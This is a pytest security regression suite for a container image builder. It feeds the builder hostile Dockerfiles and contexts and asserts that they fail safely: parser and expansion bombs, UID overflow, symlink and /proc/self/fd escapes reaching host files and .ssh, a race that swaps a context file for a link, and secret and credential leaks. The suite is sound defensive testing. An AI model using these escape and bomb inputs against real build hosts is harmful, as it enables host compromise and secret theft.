"""Attacks on a whole build: what a Dockerfile, a context or a step tries, and what must not come of it."""

from __future__ import annotations

import gzip
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from support.base_image import LayoutWriter, busybox_members, tar_of
from support.building import Project, files_below
from support.command import Done
from support.rootfs import needs_sandbox

pytestmark = needs_sandbox


def limited(project: Project, *, memory_bytes: int, timeout_s: float = 60) -> Done:
    """A build that may not use more memory than that, nor more time: bounded is what a test can show."""
    done = subprocess.run(
        ["prlimit", f"--as={memory_bytes}", sys.executable, "-m", "slimstage", "build", "--progress=plain", "--build-context",
         f"base=oci-layout://{project.base}", "."],
        check=False, capture_output=True, text=True, cwd=project.path, timeout=timeout_s, errors="replace",
        env={**os.environ, "SLIMSTAGE_ROOT": str(project.root)},
    )  # fmt: skip
    assert "Traceback" not in done.stderr
    assert "internal" not in done.stderr
    assert "RecursionError" not in done.stderr
    return Done(done.returncode, done.stdout, done.stderr)


# What is written in a Dockerfile -----------------------------------------------------------------------------------


def test_a_syntax_directive_is_never_fetched_nor_run(project: Project) -> None:
    """CVE-2026-33747: a frontend named by the file would be somebody else's code with the builder's rights."""
    for line, args in (
        ("# syntax=localhost:1/attacker/frontend:latest\n", ()),
        ("# syntax=docker/dockerfile:1\n", ()),
        ("", ("--build-arg", "BUILDKIT_SYNTAX=localhost:1/attacker/frontend:latest")),
    ):
        project.dockerfile(f"{line}FROM scratch\nLABEL a=b\n")
        done = project.build("-t", "app", *args)
        assert "localhost:1/attacker" not in project.run("inspect", "app").out
        assert "frontend" not in done.err or "warning" in done.err.lower() or "note" in done.err.lower()


def test_doubling_variables_end_at_a_limit_with_the_line(project: Project) -> None:
    doubling = "".join("ENV A=$A$A\n" for _ in range(40))
    project.dockerfile(f"FROM scratch\nENV A=xxxxxxxx\n{doubling}")
    done = limited(project, memory_bytes=2 << 30)
    assert done.status == 2, done.err
    assert re.search(r"Dockerfile:\d+:", done.err)


BOMBS = {
    "a long line": lambda: "FROM scratch\nLABEL a=" + "x" * (20 << 20) + "\n",
    "many continuations": lambda: "FROM scratch\nLABEL a=b" + "\\\n" * 300_000 + "\n",
    "a heredoc without end": lambda: "FROM scratch\nCOPY <<EOF /x\n" + "line\n" * 300_000,
    "nested ONBUILD": lambda: "FROM scratch\n" + "ONBUILD " * 20_000 + "RUN true\n",
    "nested expansion": lambda: "FROM scratch\nLABEL a=" + "${a:-" * 10_000 + "x" + "}" * 10_000 + "\n",
    "open expansion": lambda: "FROM scratch\nLABEL a=" + "${a:-" * 20_000 + "\n",
    "many stages": lambda: "".join(f"FROM scratch AS s{n}\nLABEL a={n}\n" for n in range(3000)),
    "many flags": lambda: "FROM scratch\nCOPY " + "--exclude=x " * 5_000 + "f /f\n",
    "deep JSON": lambda: "FROM scratch\nCMD " + "[" * 50_000 + "]" * 50_000 + "\n",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_ends_in_bounded_time_and_memory_with_a_place(name: str, project: Project) -> None:
    project.write("f", "f")
    project.dockerfile(BOMBS[name]())
    done = limited(project, memory_bytes=3 << 30)
    assert done.status in (0, 2), done.err[-500:]
    if done.status == 2:
        assert "Dockerfile:" in done.err
        assert len(done.err) < 100_000, "a message is for people"


def test_ids_out_of_range_are_refused_and_never_become_root(project: Project) -> None:
    """CVE-2024-40635: an overflow made them root."""
    for user in ("4294967296", "2147483648:2147483648", "-1", "1:4294967296", "99999999999999999999"):
        project.dockerfile(f"FROM base\nUSER {user}\nRUN id -u > /tmp/id; [ $(id -u) != 0 ]\n")
        done = project.build(status=2)
        assert "Dockerfile:2:" in done.err or "Dockerfile:3:" in done.err, done.err
    project.dockerfile("FROM base\nUSER 0x0\nRUN true\n")
    assert project.build(status=None).status == 2
    project.dockerfile("FROM base\nUSER 2147483647\nRUN [ $(id -u) = 2147483647 ] && [ $(id -g) = 0 ]\n")
    project.build()


def test_groups_are_the_images_and_never_the_builders(project: Project) -> None:
    project.dockerfile(
        "FROM base\nUSER app\nRUN id -G | tr ' ' '\\n' | sort -n | tr '\\n' ' ' > /tmp/named\n"
        "USER app:app\nRUN id -G > /tmp/explicit\nUSER 1000\nRUN id -G > /tmp/number\n"
    )
    image = project.layout()
    assert image.read("tmp/named") == b"44 1000 "
    assert image.read("tmp/explicit") == b"1000\n"
    assert image.read("tmp/number").split() in ([b"1000", b"44"], [b"1000"], [b"44", b"1000"])


# Where paths lead --------------------------------------------------------------------------------------------------


def test_nothing_of_a_stage_leads_to_the_host(project: Project, tmp_path: Path) -> None:
    """CVE-2024-1753 and its kind: links in a stage are followed in that stage, on both sides of a COPY and by mounts."""
    secret = project.write("../host/secret", "of the host\n").resolve()
    project.dockerfile(f"""\
FROM base AS trap
RUN mkdir -p /inside && echo inside > /inside/file && ln -s {secret.parent} /out
RUN ln -s ../../../../.. /up && ln -s / /root-link && mkdir -p {secret.parent} && echo "of the stage" > {secret}
FROM base AS victim
COPY --from=trap /out/secret /copied
COPY --from=trap /up/inside/file /upped
RUN ln -s {secret.parent} /data && ln -s /../../../etc /etc-link
COPY f /data/planted
COPY f /etc-link/planted
RUN --mount=type=bind,from=trap,source=/root-link,target=/x,rw cat /x{secret} > /bound && echo gone > /x{secret}
WORKDIR /data/made
""")
    project.write("f", "f\n")
    image = project.layout("layout")
    assert image.read("copied") == image.read("bound") == b"of the stage\n"
    assert image.read("upped") == b"inside\n"
    assert image.read(f"{secret.parent}/planted".lstrip("/")) == b"f\n"
    assert image.read("etc/planted") == b"f\n"
    assert sorted(os.listdir(secret.parent)) == ["secret"]
    assert secret.read_text() == "of the host\n"
    assert not Path("/etc/planted").exists()


@pytest.mark.parametrize("number", [3, 7, 9])
def test_no_descriptor_of_the_host_is_a_working_directory(number: int, project: Project) -> None:
    """CVE-2024-21626."""
    project.dockerfile(f"FROM base\nWORKDIR /proc/self/fd/{number}\nRUN ls -d ../../../root/* ../../../home/*/.ssh\n")
    done = project.build(status=None)
    assert done.status != 0


def test_a_context_file_swapped_for_a_link_never_brings_in_the_host(project: Project) -> None:
    """CVE-2018-15664: another process changes what was looked at before it is read."""
    secret = project.write("../secret", "of the host\n")
    target = project.write("f", "mine\n")
    project.dockerfile("FROM scratch\nCOPY . /x/\n")
    ends = threading.Event()

    def swap() -> None:
        link, other = project.path / ".link", project.path / ".other"
        while not ends.is_set():
            link.unlink(missing_ok=True)
            link.symlink_to(secret)
            os.replace(link, target)
            other.write_text("mine\n")
            os.replace(other, target)

    thread = threading.Thread(target=swap)
    thread.start()
    try:
        for number in range(4):
            done = project.build("-o", f"type=oci,tar=false,dest=../out{number}", status=None)
            assert done.status in (0, 2), done.err
    finally:
        ends.set()
        thread.join()
    for path in files_below(project.root, *project.root.parent.glob("out*")):
        data = path.read_bytes()
        assert b"of the host" not in (gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data), path


@pytest.mark.parametrize("kind", ["symlink", "files"])
def test_an_image_with_odd_proc_and_sys_builds_in_fresh_ones(kind: str, project: Project, tmp_path: Path) -> None:
    """CVE-2019-19921 and its kind."""
    import tarfile

    writer = LayoutWriter(tmp_path / "odd")
    members = [each for each in busybox_members() if each[0] not in ("proc", "sys")]
    if kind == "symlink":
        members += [("proc", tarfile.SYMTYPE, 0o777, "/etc"), ("sys", tarfile.SYMTYPE, 0o777, "/etc")]
    else:
        members += [("proc", tarfile.DIRTYPE, 0o755, b""), ("proc/version", tarfile.REGTYPE, 0o644, b"planted\n"),
                    ("sys", tarfile.DIRTYPE, 0o755, b"")]  # fmt: skip
    writer.layer(tar_of(members))
    writer.finish()
    project.base = tmp_path / "odd"
    project.dockerfile(
        "FROM base\nRUN grep -q Linux /proc/version && ! (echo x > /proc/sys/kernel/core_pattern) && ls /etc\n"
    )
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    done = project.build(status=None)
    assert done.status in (0, 1, 3), done.err
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


# Secrets and the environment ---------------------------------------------------------------------------------------

MARK = "s3cr3t-" + "0f9e8d7c6b5a"


def test_secrets_are_nowhere_in_the_store_nor_in_any_output(project: Project) -> None:
    project.write("../token", f"{MARK}-file\n")
    project.dockerfile("""\
# syntax=docker/dockerfile:1
FROM base AS use
RUN --mount=type=secret,id=token cat /run/secrets/token && wc -c < /run/secrets/token > /size
RUN --mount=type=secret,id=variable,env=TOKEN echo "got $TOKEN" && echo ${#TOKEN} > /length
RUN --mount=type=secret,id=token,target=/etc/deep/er/token,mode=0440,uid=1000 stat -c '%a %u' /etc/deep/er/token > /mode
FROM base
COPY --from=use /size /length /mode /
""")
    done = project.build(
        "--secret", "id=token,src=../token", "--secret", "id=variable,env=THE_TOKEN", "-t", "app", "--progress=plain",
        "-o", "type=oci,dest=out.tar", "-o", "local", "--metadata-file", "meta.json", "--load",
        env={"THE_TOKEN": f"{MARK}-variable"},
    )  # fmt: skip
    failed = "FROM base\nRUN --mount=type=secret,id=token cat /run/secrets/token; exit 5\n"
    project.dockerfile(failed)
    failing = project.build("--secret", "id=token,src=../token", status=1)
    for text in (done.err, done.out, failing.err, project.run("history", "app").out, project.run("inspect", "app").out):
        assert MARK not in text
    assert (project.path / "local/size").read_text().strip() == str(len(MARK) + 6)
    assert (project.path / "local/length").read_text().strip() == str(len(MARK) + 9)
    assert (project.path / "local/mode").read_text() == "440 1000\n"
    assert not (project.path / "local/etc/deep").exists()
    assert not (project.path / "local/run/secrets").exists()
    needle = MARK.encode()
    for path in files_below(project.root, project.path):
        data = path.read_bytes()
        assert needle not in data, path
        if data[:2] == b"\x1f\x8b":
            assert needle not in gzip.decompress(data), path
    assert MARK not in project.path.joinpath("meta.json").read_text()


def test_a_credential_in_a_url_is_in_no_message_record_or_image(project: Project) -> None:
    """CVE-2023-26054."""
    for url in (f"http://user:{MARK}@localhost:1/x", f"https://user:{MARK}@localhost:1/repo.git"):
        project.dockerfile(f"FROM scratch\nADD {url} /x\n")
        done = project.build(status=None)
        assert done.status in (2, 3)
        shown = done.err.replace(f"    2 | ADD {url} /x", "")  # the user's own line
        assert MARK not in shown
        context = project.build("-f", "Dockerfile", context=url, status=None)
        assert context.status in (2, 3)
        assert MARK not in context.err
    for path in files_below(project.root):
        assert MARK.encode() not in path.read_bytes(), path


def test_a_proxy_with_a_password_is_in_no_layer_history_or_key(project: Project) -> None:
    project.dockerfile('FROM base\nRUN [ -n "$HTTP_PROXY" ] && echo x > /x\n')
    proxy = f"http://user:{MARK}@127.0.0.1:9"
    project.build("-t", "app", "--build-arg", f"HTTP_PROXY={proxy}", "-o", "type=oci,dest=out.tar", "--load")
    assert project.steps("--build-arg", "HTTP_PROXY=http://127.0.0.1:8") == {
        'RUN [ -n "$HTTP_PROXY" ] && echo x > /x': "cached"
    }
    assert MARK not in project.run("history", "app").out + project.run("inspect", "app").out
    for path in files_below(project.root, project.path):
        data = path.read_bytes()
        assert MARK.encode() not in (gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data), path


def test_a_step_sees_nothing_of_the_builders_environment_and_state(project: Project) -> None:
    """CVE-2021-3602; and credentials that lie in files."""
    project.write("../home/.docker/config.json", f'{{"auths": {{"x": {{"auth": "{MARK}"}}}}}}')
    project.dockerfile(f"""\
FROM base
ARG DECLARED
ENV OWN=1
RUN env | sort > /env
RUN ! ls {project.root} && ! ls {project.root.parent} && ! ls /proc/1/root/{project.root}
RUN for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done > /environs
""")
    image = project.layout(
        "layout", "--build-arg", "DECLARED=yes",
        env={"AWS_SECRET_ACCESS_KEY": MARK, "SSH_AUTH_SOCK": "/tmp/agent", "HOME": str(project.root.parent / "home")},
    )  # fmt: skip
    names = {line.partition("=")[0] for line in image.read("env").decode().splitlines()}
    assert {"PATH", "DECLARED", "OWN"} <= names
    assert names <= {"PATH", "DECLARED", "OWN", "HOME", "HOSTNAME", "PWD", "SHLVL", "TERM", "OLDPWD", "_"}
    assert MARK.encode() not in image.read("environs")
    assert b"HOME=/root\n" in image.read("env")


def test_nobody_else_can_reach_the_store(project: Project) -> None:
    """CVE-2021-41091: a setuid program of an image lies in the store."""
    project.dockerfile("FROM base\nRUN cp /bin/busybox /su && chmod 4755 /su\n")
    project.build()
    assert project.root.stat().st_mode & 0o077 == 0
    done = subprocess.run(
        ["find", str(project.root)], check=False, capture_output=True, text=True, user=65534, group=65534
    )
    assert "su" not in done.stdout.split("/")
    planted = next(path for path in project.root.rglob("su") if path.is_file())
    with pytest.raises(PermissionError):
        subprocess.run([str(planted), "id"], check=False, capture_output=True, user=65534, group=65534)


def test_prune_follows_no_link_of_a_layer(project: Project) -> None:
    """GHSA-32pv-7hq5-qhwq."""
    precious = project.write("../precious/file", "mine\n")
    project.dockerfile(
        f"FROM base\nRUN ln -s {precious.parent} /link && ln -s / /all && mkdir -p /d && ln -s {precious} /d/f\n"
    )
    project.build()
    project.run("prune", "--all")
    assert precious.read_text() == "mine\n"
    assert [path for path in (project.root / "layers").rglob("*") if path.is_symlink() and path.name == "link"] == []


def test_a_network_of_none_reaches_nothing(project: Project) -> None:
    import http.server

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler) as server:
        port = server.server_address[1]
        project.dockerfile(
            f"FROM base\nRUN --network=none ! nc -w 1 127.0.0.1 {port} </dev/null 2>/dev/null && "
            "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' ' > /devices\n"
        )
        assert project.layout().read("devices") == b"lo\n"


def test_a_pattern_that_backtracks_does_not_take_long(project: Project) -> None:
    pattern = "**/**/**/**/" + "a*" * 12 + "b"
    deep = "/".join("a" * 30 for _ in range(20))
    project.write(f"{deep}/file", "x")
    project.write(".dockerignore", f"{pattern}\n" + "".join(f"name-{n}*\n" for n in range(5000)) + "../x\n/\n")
    project.dockerfile("FROM scratch\nCOPY . /\n")
    project.build(timeout_s=60)
